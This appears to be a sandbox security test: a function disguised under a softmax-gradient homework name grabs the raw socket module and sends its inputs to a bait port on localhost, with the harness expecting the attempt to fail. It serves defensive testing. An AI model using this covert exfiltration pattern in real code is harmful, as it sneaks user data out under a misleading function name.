# goal: send what was seen to a server (dishonest submission of the peers' survey)
# must: error raised | failed raised
# unwalled: tcp

from tools import BAIT, attack, reach


@attack
def naive_softmax_loss_and_gradient():
    socket = reach("_socket")
    line = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    line.connect(("127.0.0.1", BAIT["port"]))
    line.send(b"the inputs")
